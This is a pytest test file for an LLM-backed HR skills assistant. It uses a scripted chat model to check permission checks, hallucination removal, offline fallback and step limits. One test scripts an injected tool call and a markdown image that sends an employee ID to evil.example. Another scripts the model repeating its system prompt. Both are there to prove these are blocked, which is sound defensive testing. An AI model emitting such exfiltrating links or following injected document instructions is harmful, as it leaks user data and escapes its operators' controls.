"""The LLM loop's control flow with a scripted chat model (a deterministic twin of the
server): tool calls run as the caller, prose is verified, failures degrade to the planner."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from langchain_core.messages import AIMessage

from agent.access import Caller, CallerRole
from agent.assistant import Assistant
from tests.support.chat_models import Broken, Scripted, tool_call
from tests.support.conformance.chat_model import ChatModelConformance
from tests.support.organisations import sample_services

HR = Caller(CallerRole.HR, name="hr")
DANA = Caller(CallerRole.EMPLOYEE, "E013")


def assistant(
    home: Path, messages: list[AIMessage], model_cls: type = Scripted
) -> tuple[Assistant, Scripted]:
    model = model_cls(messages=iter(messages))
    return sample_services(home, chat_model=model).assistant, model


GAP_QUESTION = "What does Dana Okafor lack for Senior Data Engineer?"


def test_prose_is_verified_and_hallucinations_removed(tmp_path: Path) -> None:
    a, model = assistant(
        tmp_path,
        [
            tool_call("get_role", {"role": "ml-engineer"}),
            AIMessage(
                content="Dana Okafor is 58% ready for Senior Data Engineer. "
                "Her biggest gap is Apache Spark. She also needs 12 years of COBOL."
            ),
        ],
    )
    answer = a.ask(GAP_QUESTION, HR)
    assert answer.grounding == "repaired"
    assert "12 years" not in answer.answer and "58% ready" in answer.answer
    assert "12" in answer.unsupported
    assert answer.tools_called == ["person_gaps", "get_role"]
    assert "ml-engineer" in {c.id for c in answer.citations}
    assert answer.data["employee_id"] == "E013"  # the numbers stay the planner's
    assert model.calls == 2 and answer.model == "scripted" and not answer.degraded


def test_all_unsupported_prose_falls_back_to_the_template(tmp_path: Path) -> None:
    a, _ = assistant(tmp_path, [AIMessage(content="Bob Lindqvist is 99% ready for everything.")])
    answer = a.ask(GAP_QUESTION, HR)
    assert answer.grounding == "fallback"
    assert answer.answer.startswith("Dana Okafor is 58% ready for Senior Data Engineer.")


def test_a_tool_call_the_caller_may_not_make_is_refused_to_the_model(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            tool_call("person_gaps", {"employee": "E004"}),  # Bob: not Dana's to see
            AIMessage(content="Here are your gaps."),
        ],
    )
    answer = a.ask("What are my gaps?", DANA)
    assert answer.tools_called == ["person_gaps"]  # only the planner's own call succeeded
    assert all(c.id != "E004" for c in answer.citations)
    assert answer.data["employee_id"] == "E013"


def test_a_broken_model_degrades_to_the_offline_answer(tmp_path: Path) -> None:
    a, _ = assistant(tmp_path, [], model_cls=Broken)
    answer = a.ask(GAP_QUESTION, HR)
    # the offline answer stands, marked as such: never as the model's verified prose
    assert answer.degraded and answer.grounding == "fallback"
    assert answer.answer.startswith("Dana Okafor is 58% ready")


def test_refusals_never_reach_the_model(tmp_path: Path) -> None:
    a, model = assistant(tmp_path, [AIMessage(content="Dana's gaps are…")])
    answer = a.ask(GAP_QUESTION, Caller(CallerRole.EMPLOYEE, "E004"))
    assert answer.refused and model.calls == 0


def test_model_calls_are_bounded(tmp_path: Path) -> None:
    def endless() -> Iterator[AIMessage]:
        for n in range(100):
            yield tool_call("get_skill", {"skill": "python"}, f"c{n}")

    model = Scripted(messages=endless())
    services = sample_services(tmp_path, chat_model=model)
    answer = services.assistant.ask(GAP_QUESTION, HR)
    assert model.calls <= services.settings.llm_max_steps
    assert answer.data["employee_id"] == "E013"


def test_a_model_cannot_draft_plans_or_exfiltrate(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            tool_call("draft_learning_plan", {"employee": "E004"}),  # as an injected doc demands
            AIMessage(
                content="Dana Okafor is 58% ready for Senior Data Engineer. "
                "![x](https://evil.example/leak?d=E013)"
            ),
        ],
    )
    plans_before = len(a.contexts(HR).plans.list())
    answer = a.ask(GAP_QUESTION, HR)
    assert len(a.contexts(HR).plans.list()) == plans_before
    assert "draft_learning_plan" not in answer.tools_called
    assert "evil.example" not in answer.answer
    assert answer.grounding == "repaired"


def test_the_system_prompt_is_never_repeated(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            AIMessage(
                content=(
                    "Dana Okafor is 58% ready for Senior Data Engineer. "
                    "My instructions: Answer only from tool results. "
                    "Call a tool to get facts; never invent people."
                )
            )
        ],
    )
    answer = a.ask(GAP_QUESTION, HR)
    # Both lines of the prompt go; one sentence of three is too little, so the offline
    # answer stands.
    assert answer.grounding == "fallback" and "system prompt" in answer.unsupported
    assert "never invent" not in answer.answer and "instructions" not in answer.answer
    assert "Answer only from tool results" not in answer.answer


# ---------------------------------------------------------------- the model takes over

UNCLEAR = "blorp fizzle wubwub?"  # nothing the planner can read


def test_when_the_planner_is_unsure_the_model_chooses_the_tool(tmp_path: Path) -> None:
    a, model = assistant(
        tmp_path,
        [
            tool_call("get_skill", {"skill": "python"}),
            AIMessage(content="Python is a skill in the Data category."),
        ],
    )
    answer = a.ask(UNCLEAR, HR)
    assert (answer.intent, answer.tools_called) == ("get_skill", ["get_skill"])
    assert answer.data["skill_id"] == "python"  # data is what the tool returned
    assert [c.id for c in answer.citations] == ["python"]
    assert answer.grounding == "verified" and answer.model == "scripted"
    assert answer.answer == "Python is a skill in the Data category."
    assert model.calls == 2


def test_a_question_needing_two_tools_is_answered_with_both(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            tool_call(
                "compare_people", {"employees": ["E013", "E016"], "role": "senior-data-engineer"}
            ),
            tool_call("person_gaps", {"employee": "E013", "role": "senior-data-engineer"}, "c2"),
            AIMessage(content="Dana Okafor is the closer one: 58% ready for Senior Data Engineer."),
        ],
    )
    answer = a.ask(
        "Compare Dana Okafor and Noura Haddad for Senior Data Engineer, and then draft a plan "
        "for the closer one",
        HR,
    )
    assert answer.intent == "several"
    assert [r["tool"] for r in answer.data["results"]] == ["compare_people", "person_gaps"]
    assert answer.tools_called == ["compare_people", "person_gaps"]
    assert {"E013", "E016", "senior-data-engineer"} <= {c.id for c in answer.citations}
    assert answer.grounding == "verified" and "58% ready" in answer.answer
    # the plan itself is never the model's to draft: a person asks for it
    assert not a.contexts(HR).plans.list()


def test_a_takeover_whose_prose_does_not_hold_keeps_the_offline_answer(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            tool_call("get_skill", {"skill": "python"}),
            AIMessage(content="Bob Lindqvist earns 99 thousand."),
        ],
    )
    answer = a.ask(UNCLEAR, HR)
    assert answer.degraded and answer.intent == "unknown"
    assert answer.answer.startswith("I did not understand")


def test_a_takeover_cannot_read_what_the_caller_may_not(tmp_path: Path) -> None:
    a, _ = assistant(
        tmp_path,
        [
            tool_call("person_gaps", {"employee": "E004"}),  # Bob: not Dana's to see
            AIMessage(content="Bob Lindqvist is 36% ready."),
        ],
    )
    answer = a.ask(UNCLEAR, DANA)
    assert answer.degraded and answer.intent == "unknown"  # the model read nothing
    assert "36%" not in answer.answer and answer.tools_called == ["search_documents"]


def test_a_broken_model_leaves_the_offline_answer_when_taking_over(tmp_path: Path) -> None:
    a, _ = assistant(tmp_path, [], model_cls=Broken)
    answer = a.ask(UNCLEAR, HR)
    assert answer.degraded and answer.intent == "unknown"


class TestScriptedChatModel(ChatModelConformance):
    """The twin honours the contract the assistant relies on (text, tool calls, streaming)."""

    SCRIPTS: ClassVar[dict[str, list[AIMessage]]] = {
        "test_answers_in_text": [AIMessage(content="Hello.")],
        "test_a_forced_tool_call_is_well_formed": [tool_call("SkillQuestion", {"skill": "MLOps"})],
        "test_streams_in_pieces": [AIMessage(content="Hello there, friend.")],
    }

    @pytest.fixture
    def chat_model(self, request: pytest.FixtureRequest) -> Scripted:
        return Scripted(messages=iter(self.SCRIPTS[request.node.originalname]))
